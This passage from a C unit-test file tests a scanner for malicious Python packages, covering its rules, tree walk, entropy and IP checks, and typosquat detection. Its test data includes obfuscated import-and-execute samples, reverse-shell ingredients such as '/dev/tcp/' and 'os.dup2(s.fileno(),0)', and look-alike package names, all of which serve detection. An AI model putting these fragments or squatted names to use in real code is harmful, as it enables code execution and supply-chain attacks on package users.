    assert_int_equal(scan_rules_count(rs), 2);
    const pyti_scan_rule *r = scan_rules_find(rs, "semi");
    assert_string_equal(r->patterns[0].source, "a;b #c");
    assert_true(scan_rule_applies(r, "pkg/x.py"));
    assert_false(scan_rule_applies(r, "pkg/x.txt"));
    assert_int_equal(r->line, 4);
    const pyti_scan_rule *ll = scan_rules_find(rs, "ll");
    assert_int_equal(ll->check, SCAN_CHECK_LONG_LINE);
    assert_true(ll->threshold == 5000);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scan_text(rs, "m.py", "x = 'a;b #c'\n", 13, &f);
    assert_non_null(find(&f, "scan.semi"));
    findings_free(&f);
    scan_rules_free(rs);
}

static void test_rule_applies_globs_and_scopes(void **state)
{
    (void)state;
    const char *text = RULE_HEAD "files = @build, docs/*.txt *.PTH\nexclude = vendor/*\npattern = x\n";
    pyti_error err;
    pyti_scan_rules *rs = scan_rules_from_string(text, strlen(text), "r.ini", &err);
    assert_non_null(rs);
    const pyti_scan_rule *r = scan_rules_find(rs, "a");
    assert_true(scan_rule_applies(r, "setup.py"));
    assert_true(scan_rule_applies(r, "sub/setup.py"));
    assert_true(scan_rule_applies(r, "hatch_build.py"));
    assert_true(scan_rule_applies(r, "docs/a.txt"));
    assert_true(scan_rule_applies(r, "x.pth"));     /* case-insensitive */
    assert_false(scan_rule_applies(r, "vendor/setup.py"));
    assert_false(scan_rule_applies(r, "pkg/module.py"));
    scan_rules_free(rs);
}

static void test_overrides_by_id(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    char *a = t_write(dir, "shipped.ini",
                      "[rule one]\nseverity = high\ncategory = t\ndescription = first\n"
                      "pattern = alpha\npattern = beta\n"
                      "[rule two]\nseverity = low\ncategory = t\ndescription = second\npattern = gamma\n");
    char *b = t_write(dir, "user.ini",
                      "[rule one]\nseverity = info\npattern = delta\n"
                      "[rule two]\ndisabled = yes\n"
                      "[rule three]\nseverity = medium\ncategory = t\ndescription = third\n"
                      "pattern = epsilon\n");
    const char *paths[] = {a, b, "/nonexistent/optional.ini", NULL};
    const bool optional[] = {false, false, true};
    pyti_error err;
    pyti_scan_rules *rs = scan_rules_load(paths, optional, &err);
    assert_non_null(rs);
    assert_int_equal(scan_rules_count(rs), 2);
    const pyti_scan_rule *one = scan_rules_find(rs, "one");
    assert_int_equal(one->severity, PYTI_SEV_INFO);
    assert_string_equal(one->description, "first"); /* kept */
    assert_int_equal(one->npatterns, 1);              /* replaced, not appended */
    assert_string_equal(one->patterns[0].source, "delta");
    assert_string_equal(one->file, b);
    assert_null(scan_rules_find(rs, "two"));
    assert_non_null(scan_rules_find(rs, "three"));
    scan_rules_free(rs);
    /* an override that breaks a rule is reported at the override */
    char *c = t_write(dir, "bad.ini", "[rule one]\n\npattern = (\n");
    const char *paths2[] = {a, c, NULL};
    assert_null(scan_rules_load(paths2, NULL, &err));
    assert_non_null(strstr(err.msg, "bad.ini:3: rule 'one': pattern:"));
    /* a new rule in an override must be complete */
    char *d = t_write(dir, "new.ini", "[rule four]\nseverity = low\npattern = x\n");
    const char *paths3[] = {a, d, NULL};
    assert_null(scan_rules_load(paths3, NULL, &err));
    assert_non_null(strstr(err.msg, "new.ini:1: rule 'four': missing 'category'"));
    free(a);
    free(b);
    free(c);
    free(d);
}

static void test_require_also_unless_and_triggers(void **state)
{
    (void)state;
    const char *text = RULE_HEAD "pattern = \\bpoke\\b\nrequire-also = alpha\nrequire-also = beta\n"
                       "unless = ^\\s*#\n"
                       "[rule t]\nseverity = low\ncategory = t\ndescription = d\n"
                       "trigger = zebra yak\ntrigger = apple\npattern = z\n";
    pyti_error err;
    pyti_scan_rules *rs = scan_rules_from_string(text, strlen(text), "r.ini", &err);
    assert_non_null(rs);
    struct { const char *src, *id; bool fires; } cases[] = {
        {"poke\nalpha\n", "scan.a", false},
        {"poke\nalpha beta\n", "scan.a", true},
        {"# poke\nalpha beta\n", "scan.a", false},
        {"# poke\npoke\nalpha beta\n", "scan.a", true},
        {"z\nzebra\n", "scan.t", false},            /* second trigger key unmet */
        {"z\nApple yak\n", "scan.t", true},          /* case-insensitive words */
        {"z\napples yak\n", "scan.t", false},        /* whole tokens only */
        {"z\nthe_apple yak\n", "scan.t", false},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        pyti_findings f = PYTI_FINDINGS_INIT;
        scan_text(rs, "m.py", cases[i].src, strlen(cases[i].src), &f);
        if ((find(&f, cases[i].id) != NULL) != cases[i].fires)
            fprintf(stderr, "case %zu: %s\n", i, cases[i].src);
        assert_int_equal(find(&f, cases[i].id) != NULL, cases[i].fires);
        findings_free(&f);
    }
    scan_rules_free(rs);
}

static void test_match_limit_is_reported(void **state)
{
    (void)state;
    /* A pattern with catastrophic backtracking and a tiny match limit: the
     * search gives up and says so instead of missing silently. */
    const char *text = RULE_HEAD "pattern = (*NO_AUTO_POSSESS)(*NO_START_OPT)(?:a+)+b\n";
    pyti_error err;
    pyti_scan_rules *rs = scan_rules_from_string(text, strlen(text), "r.ini", &err);
    assert_non_null(rs);
    pyti_scan_limits lim;
    scan_limits_default(&lim);
    lim.match_limit = 1000;
    pyti_scanner *s = scanner_new(rs, &lim);
    char *input = repeat_str("a", 40);
    pyti_findings f = PYTI_FINDINGS_INIT;
    scanner_scan_buffer(s, "m.py", input, strlen(input), &f);
    const pyti_finding *x = find(&f, "scan.match-limit");
    assert_non_null(x);
    assert_int_equal(x->severity, PYTI_SEV_MEDIUM);
    assert_int_equal(scanner_stats(s)->match_limit, 1);
    findings_free(&f);
    free(input);
    scanner_free(s);
    scan_rules_free(rs);
}

/* The shipped patterns stay fast on hostile input built from their own
 * ingredients (long runs of near-misses). */
static void test_shipped_rules_on_near_misses(void **state)
{
    (void)state;
    static const char *const chunks[] = {
        "exec(", "exec(exec(", "b64decode(", "__import__(", "'rot13'", "zlib.decompress(",
        "\\x4", "chr(1)+", "curl ", "/dev/tcp/", "open(", "~/.bashrc", "os.dup2(s.fileno(),0)",
        "socket.socket(", "1.2.3.", "requests.get(", "   ", "''.join(map(chr,[1,",
    };
    for (size_t i = 0; i < sizeof chunks / sizeof *chunks; i++) {
        char *text = repeat_str(chunks[i], 200000 / strlen(chunks[i]));
        pyti_scanner *s = scanner_new(shipped, NULL);
        pyti_findings f = PYTI_FINDINGS_INIT;
        scanner_scan_buffer(s, "setup.py", text, strlen(text), &f);
        scanner_scan_buffer(s, "x.pth", text, strlen(text), &f);
        if (scanner_stats(s)->match_limit)
            print_findings(chunks[i], &f);
        assert_int_equal(scanner_stats(s)->match_limit, 0);
        findings_free(&f);
        scanner_free(s);
        free(text);
    }
}

/* ---- the tree walk ---------------------------------------------------------- */

static void test_tree_walk(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    char *root = path_join(dir, "root");
    char *outside = path_join(dir, "outside");
    free(t_write(outside, "evil.py", "__import__('os').system('id')\n"));
    free(t_write(root, "pkg/__init__.py", "x = 1\n"));
    free(t_write(root, "pkg/b.py", "__import__('os').system('b')\n"));
    free(t_write(root, "pkg/a.py", "__import__('os').system('a')\n"));
    free(t_write_bytes(root, "pkg/blob.bin", "\x7f" "ELF\0\0__import__('os').system('x')", 34));
    /* symlinks to a file and to a directory outside: never followed */
    char *evil = path_join(outside, "evil.py");
    char *link = path_join(root, "pkg/link.py");
    assert_int_equal(symlink(evil, link), 0);
    char *dlink = path_join(root, "outdir");
    assert_int_equal(symlink(outside, dlink), 0);
    char *fifo = path_join(root, "pkg/pipe.py");
    assert_int_equal(mkfifo(fifo, 0644), 0);

    pyti_scanner *s = scanner_new(shipped, NULL);
    pyti_findings f = PYTI_FINDINGS_INIT;
    pyti_error err;
    assert_int_equal(scanner_scan_tree(s, root, &f, &err), PYTI_OK);
    const pyti_scan_stats *st = scanner_stats(s);
    assert_int_equal(st->symlinks, 2);
    assert_int_equal(st->other, 1);
    assert_int_equal(st->binary, 1);
    assert_int_equal(st->scanned, 3);
    /* sorted order, relative paths, nothing from outside or the binary */
    size_t n = 0;
    for (size_t i = 0; i < f.len; i++) {
        if (strcmp(f.items[i].id, "scan.import-obfuscated") != 0)
            continue;
        assert_string_equal(f.items[i].where, n == 0 ? "pkg/a.py:1" : "pkg/b.py:1");
        n++;
    }
    assert_int_equal(n, 2);
    json_t *j = scanner_stats_json(s);
    assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "hits"),
                                                        "import-obfuscated")), 2);
    json_decref(j);
    findings_free(&f);
    scanner_free(s);
    /* the root itself must not be a symlink */
    assert_int_not_equal(scanner_scan_tree(s = scanner_new(shipped, NULL), dlink, &f, &err), PYTI_OK);
    assert_non_null(strstr(err.msg, "outdir"));
    scanner_free(s);
    findings_free(&f);
    free(evil);
    free(link);
    free(dlink);
    free(fifo);
    free(root);
    free(outside);
}

static void test_tree_limits(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    char *big = repeat_str("# padding\n", 300);
    free(t_write(dir, "big.py", big));
    free(t_write(dir, "big.dat", big));
    free(t_write(dir, "a/b/c/d/deep.py", "x = 1\n"));
    pyti_scan_limits lim;
    scan_limits_default(&lim);
    lim.max_file_size = 1000;
    lim.max_depth = 2;
    pyti_scanner *s = scanner_new(shipped, &lim);
    pyti_findings f = PYTI_FINDINGS_INIT;
    pyti_error err;
    assert_int_equal(scanner_scan_tree(s, dir, &f, &err), PYTI_OK);
    int sev_py = -1, sev_dat = -1;
    for (size_t i = 0; i < f.len; i++) {
        if (strcmp(f.items[i].id, "scan.file-too-large") != 0)
            continue;
        if (strcmp(f.items[i].where, "big.py") == 0)
            sev_py = (int)f.items[i].severity;
        if (strcmp(f.items[i].where, "big.dat") == 0)
            sev_dat = (int)f.items[i].severity;
    }
    assert_int_equal(sev_py, PYTI_SEV_MEDIUM);  /* code that cannot be checked */
    assert_int_equal(sev_dat, PYTI_SEV_INFO);
    const pyti_finding *inc = find(&f, "scan.incomplete");
    assert_non_null(inc);
    assert_true(scanner_stats(s)->incomplete);
    assert_int_equal(scanner_stats(s)->too_large, 2);
    findings_free(&f);
    scanner_free(s);

    lim.max_depth = 64;
    lim.max_files = 1;
    s = scanner_new(shipped, &lim);
    assert_int_equal(scanner_scan_tree(s, dir, &f, &err), PYTI_OK);
    assert_non_null(find(&f, "scan.incomplete"));
    assert_non_null(strstr(find(&f, "scan.incomplete")->message, "more than 1 files"));
    findings_free(&f);
    scanner_free(s);
    free(big);
}

static void test_findings_are_capped(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    for (int i = 0; i < 12; i++) {
        char rel[32];
        snprintf(rel, sizeof rel, "m%02d.py", i);
        free(t_write(dir, rel, "__import__('os').system('id')\n"));
    }
    pyti_scan_limits lim;
    scan_limits_default(&lim);
    lim.max_findings = 5;
    pyti_scanner *s = scanner_new(shipped, &lim);
    pyti_findings f = PYTI_FINDINGS_INIT;
    pyti_error err;
    assert_int_equal(scanner_scan_tree(s, dir, &f, &err), PYTI_OK);
    scanner_finish(s, &f);
    assert_int_equal(f.len, 6);
    const pyti_finding *t = find(&f, "scan.findings-truncated");
    assert_non_null(t);
    assert_non_null(strstr(t->message, "7 more"));
    json_t *j = scanner_stats_json(s);
    assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "hits"),
                                                        "import-obfuscated")), 12);
    json_decref(j);
    findings_free(&f);
    scanner_free(s);
}

/* ---- entropy, literals, IPv4 ------------------------------------------------ */

static void test_entropy(void **state)
{
    (void)state;
    assert_true(entropy_shannon("", 0) == 0.0);
    assert_true(entropy_shannon("aaaaaaaa", 8) == 0.0);
    assert_true(fabs(entropy_shannon("abababab", 8) - 1.0) < 1e-9);
    assert_true(fabs(entropy_shannon("abcd", 4) - 2.0) < 1e-9);
    unsigned char all[256];
    for (int i = 0; i < 256; i++)
        all[i] = (unsigned char)i;
    assert_true(fabs(entropy_shannon(all, 256) - 8.0) < 1e-9);
    char *b64 = random_b64(4000, 3);
    double e = entropy_shannon(b64, 4000);
    assert_true(e > 5.8 && e <= 6.0);
    free(b64);
    char *hex = repeat_str("0123456789abcdef", 100);
    assert_true(fabs(entropy_shannon(hex, strlen(hex)) - 4.0) < 1e-9);
    free(hex);
}

typedef struct lit_list {
    char items[16][64];
    size_t n;
} lit_list;

static bool collect(const char *body, size_t len, size_t offset, void *arg)
{
    lit_list *l = arg;
    (void)offset;
    if (l->n < 16) {
        snprintf(l->items[l->n], sizeof l->items[0], "%.*s", (int)len, body);
        l->n++;
    }
    return true;
}

static void test_pylex(void **state)
{
    (void)state;
    const char *src = "a = 'one'  # 'not this'\n"
                      "b = \"two \\\" quote\"\n"
                      "c = r'''three\nlines'''\n"
                      "d = rb\"four\"; e = f'{x}five'\n"
                      "name'x = 1\n"       /* a quote after a name still opens a string */
                      "g = 'unterminated\n"
                      "h = \"\"\"\"\"\"\n";
    lit_list l = {0};
    pylex_strings(src, strlen(src), collect, &l);
    assert_int_equal(l.n, 8);
    assert_string_equal(l.items[0], "one");
    assert_string_equal(l.items[1], "two \\\" quote");
    assert_string_equal(l.items[2], "three\nlines");
    assert_string_equal(l.items[3], "four");
    assert_string_equal(l.items[4], "{x}five");
    assert_string_equal(l.items[5], "x = 1");
    assert_string_equal(l.items[6], "unterminated");
    assert_string_equal(l.items[7], "");
    /* never reads past the end */
    lit_list l2 = {0};
    pylex_strings("x = '''abc\\", 11, collect, &l2);
    assert_int_equal(l2.n, 1);
}

static void test_ipv4(void **state)
{
    (void)state;
    struct { const char *s; const char *want; } cases[] = {
        {"45.33.32.156", "45.33.32.156"},
        {"http://8.26.56.26:80/", "8.26.56.26"},
        {"x 10.1.2.3 y 172.16.0.1 z 192.168.0.1 w 127.0.0.1", NULL},
        {"169.254.1.1 100.64.0.1 192.0.2.5 198.51.100.1 203.0.113.7 224.0.0.1 255.255.255.255", NULL},
        {"0.0.0.0 198.18.0.1", NULL},
        {"1.2.3.4 8.8.8.8", NULL},               /* single-digit octets: version-like */
        {"v12.2.30.40 pkg-12.2.30.40 >=12.2.30.40 ==12.2.30.40", NULL},
        {"12.2.30.40.5 12.2.30.40a 4.3.20.111.in-addr.arpa", NULL},
        {"256.1.1.1 01.22.33.44", NULL},
        {"1.3.101.112 2.5.29.17", NULL},         /* OIDs */
        {"host=91.198.174.192", "91.198.174.192"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        size_t pos = 0, n = 0;
        bool got = ipv4_find_public(cases[i].s, strlen(cases[i].s), &pos, &n);
        if (got != (cases[i].want != NULL))
            fprintf(stderr, "ipv4 case %zu: %s\n", i, cases[i].s);
        assert_int_equal(got, cases[i].want != NULL);
        if (got)
            assert_true(strncmp(cases[i].s + pos, cases[i].want, n) == 0 &&
                        strlen(cases[i].want) == n);
    }
    assert_true(ipv4_is_public(0x08080808));
    assert_false(ipv4_is_public(0x7f000001));
    assert_false(ipv4_is_public(0xac1f0001)); /* 172.31.0.1 */
    assert_true(ipv4_is_public(0xac200001));  /* 172.32.0.1 */
}

/* ---- typosquatting ------------------------------------------------------------ */

static const char popular_text[] =
    "# test list\n"
    "requests top\nnumpy top\ndjango top\nmatplotlib top\npython-dateutil top\n"
    "beautifulsoup4 top\npyyaml top\nsix top\ntqdm top\nurllib3 top\n"
    "flask\nsphinxcontrib-jsmath\nsqlalchemy listed\n";

static void test_typosquat_distance(void **state)
{
    (void)state;
    assert_int_equal(typosquat_distance("requests", "requests", 2), 0);
    assert_int_equal(typosquat_distance("requests", "reqeusts", 2), 1);  /* transposition */
    assert_int_equal(typosquat_distance("requests", "requets", 2), 1);   /* deletion */
    assert_int_equal(typosquat_distance("requests", "requestss", 2), 1); /* insertion */
    assert_int_equal(typosquat_distance("requests", "reqvests", 2), 1);  /* substitution */
    assert_int_equal(typosquat_distance("kitten", "sitting", 5), 3);
    assert_int_equal(typosquat_distance("kitten", "sitting", 2), 3);     /* capped at max+1 */
    assert_int_equal(typosquat_distance("ab", "ba", 1), 1);
    assert_int_equal(typosquat_distance("ca", "abc", 5), 3);             /* OSA, not full DL */
    assert_int_equal(typosquat_distance("", "abc", 5), 3);
    assert_int_equal(typosquat_distance("a", "abcdefgh", 2), 3);         /* length cut-off */
    char fold[64];
    typosquat_fold("rn-atp1ot_lib.vv0", fold, sizeof fold);
    assert_string_equal(fold, "matplotlibwo");
}

static void test_typosquat_check(void **state)
{
    (void)state;
    pyti_error err;
    pyti_popular *p = popular_from_string(popular_text, sizeof popular_text - 1, "p.txt", &err);
    assert_non_null(p);
    assert_int_equal(popular_count(p), 13);
    assert_true(popular_contains(p, "PyYAML"));
    struct { const char *name; const char *target; const char *method; } cases[] = {
        {"reqeusts", "requests", "swap"},
        {"requets", "requests", "edit"},
        {"requestss", "requests", "edit"},
        {"reque5ts", "requests", "edit"},
        {"djang0", "django", "homoglyph"},
        {"rnatplotlib", "matplotlib", "homoglyph"},
        {"py-yaml", "pyyaml", "separators"},
        {"pythondateutil", "python-dateutil", "separators"},
        {"python-dateutl", "python-dateutil", "edit"},
        {"pyhton-dateutil", "python-dateutil", "swap"},
        {"beautifulsop", "beautifulsoup4", "edit"},  /* distance 2 on a long top name */
        {"python-requests", "requests", "affix"},
        {"requests-py", "requests", "affix"},
        {"numpy2", "numpy", "edit"},                  /* also an affix; edit is checked first */
        {"tqmd", "tqdm", "swap"},
        {"flaks", "flask", "swap"},
        {"sqlalchemi", "sqlalchemy", "edit"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        pyti_typosquat ts;
        bool got = typosquat_check(p, cases[i].name, &ts);
        if (!got || strcmp(ts.target, cases[i].target) || strcmp(ts.method, cases[i].method))
            fprintf(stderr, "typosquat %s: got %s %s %s\n", cases[i].name, got ? "yes" : "no",
                    got ? ts.target : "", got ? ts.method : "");
        assert_true(got);
        assert_string_equal(ts.target, cases[i].target);
        assert_string_equal(ts.method, cases[i].method);
    }
    static const char *const clean[] = {
        "requests", "Requests", "PyYAML", "py_yaml_not", "demo-pkg", "hello-pyti", "six1", "sixx",
        "numpy-financial-tools", "flask-login", "sphinxcontrib-jsmat", "django-rest-auth",
        "abc", "mypackage", "beautifulsoup",  /* distance 1 from no-one; bs... is 2, ok? */
    };
    for (size_t i = 0; i < sizeof clean / sizeof *clean; i++) {
        pyti_typosquat ts;
        bool got = typosquat_check(p, clean[i], &ts);
        if (got && strcmp(clean[i], "beautifulsoup") == 0) {
            /* distance 1 from beautifulsoup4 (a top name): a look-alike */
            assert_string_equal(ts.target, "beautifulsoup4");
            continue;
        }
        if (got && strcmp(clean[i], "sphinxcontrib-jsmat") == 0) {
            /* distance 1 from a listed name of 5+ characters */
            assert_string_equal(ts.method, "edit");
            continue;
        }
        if (got)
            fprintf(stderr, "typosquat false positive: %s -> %s (%s)\n", clean[i], ts.target, ts.method);
        assert_false(got);
    }
    popular_free(p);

    const char bad[] = "requests top\nnot a name\n";
    assert_null(popular_from_string(bad, sizeof bad - 1, "p.txt", &err));
    assert_non_null(strstr(err.msg, "p.txt:2"));
    const char bad_tier[] = "requests best\n";
    assert_null(popular_from_string(bad_tier, sizeof bad_tier - 1, "p.txt", &err));
    assert_non_null(strstr(err.msg, "unknown tier"));
}

/* The shipped list: the popular names themselves never flag, the classic
 * squats do. */
static void test_typosquat_shipped_list(void **state)
{
    (void)state;
    pyti_error err;
    char *path = path_join(t_source_root(), "data/popular-projects.txt");
    pyti_popular *p = popular_load(path, &err);
    free(path);
    assert_non_null(p);
    assert_true(popular_count(p) > 1000);
    pyti_typosquat ts;
    static const char *const popular_ones[] = {"requests", "numpy", "setuptools", "pip", "wheel",
                                               "django", "python-dateutil", "pyyaml", NULL};
    for (size_t i = 0; popular_ones[i]; i++)
        assert_false(typosquat_check(p, popular_ones[i], &ts));
    static const char *const squats[][2] = {
        {"reqeusts", "requests"}, {"requestss", "requests"}, {"python-requests", "requests"},
        {"urlib3", "urllib3"}, {"djanga", "django"}, {"colourama", "colorama"},
        {"beautifulsoup", "beautifulsoup4"}, {"crypt0graphy", "cryptography"},
    };
    for (size_t i = 0; i < sizeof squats / sizeof *squats; i++) {
        bool got = typosquat_check(p, squats[i][0], &ts);
        if (!got || strcmp(ts.target, squats[i][1]))
            fprintf(stderr, "%s -> %s %s\n", squats[i][0], got ? ts.target : "-", got ? ts.method : "");
        assert_true(got);
        assert_string_equal(ts.target, squats[i][1]);
    }
    /* the names the other tests use are not look-alikes */
    static const char *const ours[] = {"demo-pkg", "hello-pyti", "demo_pkg", "pyti-probe", NULL};
    for (size_t i = 0; ours[i]; i++) {
        bool got = typosquat_check(p, ours[i], &ts);
        if (got)
            fprintf(stderr, "%s -> %s (%s)\n", ours[i], ts.target, ts.method);
        assert_false(got);
    }
    popular_free(p);
}

/* ---- false positives on real code ------------------------------------------- */

/* Debian's own Python code: big, varied, benign. Nothing of severity
 * medium or above may come out of it (docs/scan-rules.md lists the low
 * findings that do). Trees missing on this machine are skipped. */
static void test_no_false_positives_on_debian_code(void **state)
{
    (void)state;
    static const char *const trees[] = {
        "/usr/lib/python3/dist-packages/pip",
        "/usr/lib/python3/dist-packages/setuptools",
        "/usr/lib/python3/dist-packages/pkg_resources",
        "/usr/lib/python3/dist-packages/_distutils_hack",
        "/usr/lib/python3/dist-packages/distutils-precedence.pth",
        "/usr/lib/python3/dist-packages/docutils",
        "/usr/lib/python3/dist-packages/pygments",
        "/usr/lib/python3/dist-packages/requests",
        "/usr/lib/python3/dist-packages/urllib3",
        "/usr/lib/python3/dist-packages/jinja2",
        "/usr/lib/python3/dist-packages/cryptography",
        "/usr/lib/python3/dist-packages/_pytest",
        "/usr/lib/python3/dist-packages/mesonbuild",
        "/usr/lib/python3/dist-packages/werkzeug",
        "/usr/lib/python3/dist-packages/flask",
        "/usr/lib/python3/dist-packages/PIL",
        "/usr/lib/python3.11",
        NULL,
    };
    size_t scanned = 0;
    for (size_t i = 0; trees[i]; i++) {
        if (!path_exists(trees[i]))
            continue;
        pyti_scanner *s = scanner_new(shipped, NULL);
        pyti_findings f = PYTI_FINDINGS_INIT;
        pyti_error err;
        if (path_is_dir(trees[i])) {
            assert_int_equal(scanner_scan_tree(s, trees[i], &f, &err), PYTI_OK);
        } else {
            char *text = t_slurp(trees[i]);
            scanner_scan_buffer(s, path_basename(trees[i]), text, strlen(text), &f);
            free(text);
        }
        scanned += scanner_stats(s)->scanned;
        for (size_t j = 0; j < f.len; j++) {
            const pyti_finding *x = &f.items[j];
            /* the interpreter's own static libraries are bigger than the limit */
            if (strcmp(x->id, "scan.file-too-large") == 0 && x->severity == PYTI_SEV_INFO)
                continue;
            if (x->severity >= PYTI_SEV_MEDIUM)
                fprintf(stderr, "%s/%s: %s %s: %s\n", trees[i], x->where, x->id,
                        severity_name(x->severity), x->message);
            assert_true(x->severity < PYTI_SEV_MEDIUM);
        }
        findings_free(&f);
        scanner_free(s);
    }
    fprintf(stderr, "scanned %zu files of Debian's Python code\n", scanned);
}

/* ---- the task: typosquat escalation ------------------------------------------- */

static json_t *run_scan_task(const char *filename, const char *root, pyti_findings *out)
{
    pyti_job job;
    memset(&job, 0, sizeof job);
    job.dist_filename = (char *)filename;
    pyti_task_def def;
    memset(&def, 0, sizeof def);
    def.name = "scan";
    def.builtin = "scan";
    json_t *inputs = json_object();
    json_t *source = json_object();
    json_object_set_new(source, "root", json_string(root));
    json_object_set_new(source, "kind", json_string("sdist"));
    json_object_set_new(inputs, "source", source);
    pyti_task_ctx ctx;
    task_ctx_init(&ctx, &job, &def, root, inputs);
    pyti_task_status st = task_builtin_scan(&ctx);
    assert_int_equal(st, PYTI_TASK_PASSED);
    for (size_t i = 0; i < ctx.findings.len; i++)
        findings_add(out, ctx.findings.items[i].id, ctx.findings.items[i].severity,
                     ctx.findings.items[i].where, "%s", ctx.findings.items[i].message);
    json_t *data = json_incref(ctx.data);
    task_ctx_free(&ctx);
    json_decref(inputs);
    return data;
}

static void test_task_typosquat_escalation(void **state)
{
    (void)state;
    char *clean = t_tmpdir();
    free(t_write(clean, "reqeusts/__init__.py", "def get(url):\n    return url\n"));
    pyti_findings f = PYTI_FINDINGS_INIT;
    json_t *data = run_scan_task("reqeusts-1.0.tar.gz", clean, &f);
    const pyti_finding *t = find(&f, "scan.typosquat");
    assert_non_null(t);
    assert_int_equal(t->severity, PYTI_SEV_MEDIUM);
    assert_non_null(strstr(t->message, "'requests' (swap)"));
    assert_string_equal(json_get_str(json_object_get(data, "typosquat"), "imitates"), "requests");
    assert_true(json_integer_value(json_object_get(json_object_get(data, "scan"), "scanned")) == 1);
    json_decref(data);
    findings_free(&f);

    char *low = t_tmpdir();
    free(t_write(low, "setup.py", "import subprocess\nsubprocess.call(['git', 'describe'])\n"));
    data = run_scan_task("reqeusts-1.0.tar.gz", low, &f);
    assert_int_equal(find(&f, "scan.typosquat")->severity, PYTI_SEV_HIGH);
    json_decref(data);
    findings_free(&f);

    char *bad = t_tmpdir();
    free(t_write(bad, "reqeusts/__init__.py", "__import__('os').system('id')\n"));
    data = run_scan_task("reqeusts-1.0.tar.gz", bad, &f);
    t = find(&f, "scan.typosquat");
    assert_int_equal(t->severity, PYTI_SEV_CRITICAL);
    assert_non_null(strstr(t->message, "raised to critical"));
    json_decref(data);
    findings_free(&f);

    /* the popular project itself and an unrelated name: no typosquat */
    data = run_scan_task("requests-2.31.0.tar.gz", clean, &f);
    assert_null(find(&f, "scan.typosquat"));
    assert_true(json_is_null(json_object_get(data, "typosquat")));
    json_decref(data);
    findings_free(&f);
    data = run_scan_task("demo_pkg-1.0-py3-none-any.whl", clean, &f);
    assert_null(find(&f, "scan.typosquat"));
    json_decref(data);
    findings_free(&f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_samples),
        cmocka_unit_test(test_every_rule_has_a_sample),
        cmocka_unit_test(test_benign_lookalikes_stay_below_medium),
        cmocka_unit_test(test_long_line),
        cmocka_unit_test(test_whitespace_padding),
        cmocka_unit_test(test_high_entropy),
        cmocka_unit_test(test_hex_escapes),
        cmocka_unit_test(test_one_finding_per_rule_per_file),
        cmocka_unit_test(test_excerpt_is_bounded_and_clean),
        cmocka_unit_test(test_rules_file_errors),
        cmocka_unit_test(test_rules_file_syntax),
        cmocka_unit_test(test_rule_applies_globs_and_scopes),
        cmocka_unit_test(test_overrides_by_id),
        cmocka_unit_test(test_require_also_unless_and_triggers),
        cmocka_unit_test(test_match_limit_is_reported),
        cmocka_unit_test(test_shipped_rules_on_near_misses),
        cmocka_unit_test(test_tree_walk),
        cmocka_unit_test(test_tree_limits),
        cmocka_unit_test(test_findings_are_capped),
        cmocka_unit_test(test_entropy),
        cmocka_unit_test(test_pylex),
        cmocka_unit_test(test_ipv4),
        cmocka_unit_test(test_typosquat_distance),
        cmocka_unit_test(test_typosquat_check),
        cmocka_unit_test(test_typosquat_shipped_list),
        cmocka_unit_test(test_no_false_positives_on_debian_code),
        cmocka_unit_test(test_task_typosquat_escalation),
    };
    return cmocka_run_group_tests(tests, load_shipped, free_shipped);
}
